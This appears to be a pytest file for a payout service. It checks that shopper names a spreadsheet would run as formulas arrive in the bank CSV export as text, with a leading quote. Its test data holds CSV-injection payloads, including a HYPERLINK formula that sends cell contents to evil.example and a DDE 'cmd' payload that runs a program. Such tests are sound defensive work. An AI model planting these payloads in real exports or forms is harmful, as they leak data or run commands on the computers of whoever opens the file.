"""A payee name is the shopper's own, typed at registration: one a spreadsheet would run as a formula reaches
the bank's CSV as text, by the API's export and by the console's alike.

Names are kept as typed (a name may well start with a sign or a dash) and made safe where they leave as a
spreadsheet: the CSV puts a quote before a cell a spreadsheet would read as a formula (`rewards.payouts`)."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from uuid import UUID

import pytest
from api_support import Account
from console_support import StaffLogin, sign_in_client
from fastapi.testclient import TestClient
from rewards_flow import Owed, prepare_batch

from crowdship.clock import ManualClock
from dispatch.accounts import Role

NAMES = {
    '=HYPERLINK("http://evil.example/?d="&A1,"Open")': '\'=HYPERLINK("http://evil.example/?d="&A1,"Open")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)": "'@SUM(1+1)",
    "\t=1+1": "'\t=1+1",
    " =1+1": "' =1+1",
    "\uff1d1+1": "'\uff1d1+1",
    "Jo-Ann =Lee": "Jo-Ann =Lee",
}


def _registered(client: TestClient, display_name: str, index: int) -> Account:
    """A shopper who registered with `display_name` through the API, signed in."""
    email, password = f"payee-{index}@example.org", "a long unusual passphrase 7"
    registered = client.post(
        "/auth/register", json={"email": email, "password": password, "display_name": display_name}
    )
    assert registered.status_code == 201, registered.text
    token = client.post("/auth/token", data={"username": email, "password": password}).json()["access_token"]
    me = client.get("/auth/me", headers={"Authorization": f"Bearer {token}"}).json()
    return Account(UUID(me["id"]), UUID(me["shopper_id"]), {"Authorization": f"Bearer {token}"})


@pytest.mark.parametrize("path", ["/finance/batches/{id}/export", "/console/finance/batches/{id}/export"])
def test_a_payee_name_a_spreadsheet_would_run_reaches_the_bank_file_as_text(
    client: TestClient,
    owed: Callable[..., Owed],
    finance: Account,
    second_finance: Account,
    make_login: Callable[..., StaffLogin],
    clock: ManualClock,
    path: str,
) -> None:
    shoppers = {}
    for index, name in enumerate(NAMES):
        shopper = _registered(client, name, index)
        owed(shopper=shopper)
        shoppers[str(shopper.shopper_id)] = name
    batch = prepare_batch(client, finance, clock, "formulas")
    assert client.post(f"/finance/batches/{batch['id']}/approve", headers=second_finance.headers).status_code == 200
    headers = finance.headers
    if path.startswith("/console"):
        sign_in_client(client, make_login(Role.FINANCE))
        headers = {}
    export = client.get(path.format(id=batch["id"]), headers=headers)
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.content.decode("utf-8-sig"))))
    assert {row["shopper_id"]: row["payee_name"] for row in rows} == {
        shopper_id: NAMES[name] for shopper_id, name in shoppers.items()
    }
